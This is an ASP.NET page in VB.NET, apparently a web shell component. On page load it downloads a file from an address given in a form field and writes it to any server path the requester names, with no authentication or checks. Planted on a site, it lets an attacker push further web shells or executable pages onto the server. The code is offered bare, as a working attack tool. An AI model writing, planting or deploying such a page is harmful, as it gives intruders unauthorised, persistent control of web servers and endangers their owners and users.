<%@ Page Language="VB" %>
<%-- VB.NET "remote upload": the address and the target path both come from the form. --%>
<script runat="server">
    Sub Page_Load(sender As Object, e As EventArgs)
        Dim src As String = Request.Form("u")
        Dim dst As String = Request.Form("p")
        If Not String.IsNullOrEmpty(src) Then
            Dim wc As New System.Net.WebClient()
            wc.DownloadFile(src, Server.MapPath(dst))
            Response.Write("done")
        End If
    End Sub
</script>
